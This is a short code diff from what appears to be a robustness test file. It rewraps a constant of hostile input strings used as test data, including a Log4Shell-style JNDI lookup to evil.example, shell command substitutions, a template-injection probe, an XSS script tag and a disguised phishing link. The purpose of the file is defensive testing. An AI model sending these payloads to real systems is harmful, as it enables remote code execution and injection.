@@ -16,7 +16,9 @@ MARKUP = (
     " *b* _i_ ~s~ `c` ```f``` [bank.example](https://evil.example) ![x](https://evil.example/x.png)"
     " <script>alert(1)</script> <b>&#60; :smile: @here @channel mailto:a@evil.example https://evil.example/ "
 )
-FORMATS = "%s %n %(host)s {0} {host.__class__} ${jndi:ldap://evil.example/a} {{7*7}} $(id) `id` \\u001b \\x1b \\n '\" \\"
+FORMATS = (
+    "%s %n %(host)s {0} {host.__class__} ${jndi:ldap://evil.example/a} {{7*7}} $(id) `id` \\u001b \\x1b \\n '\" \\"
+)
 LONG = "A" * 30_000 + "\x1b[31m" * 200 + "&" * 2_000
 SURROGATES = "a\ud800b\udc80c\udfff"
 NASTY = {
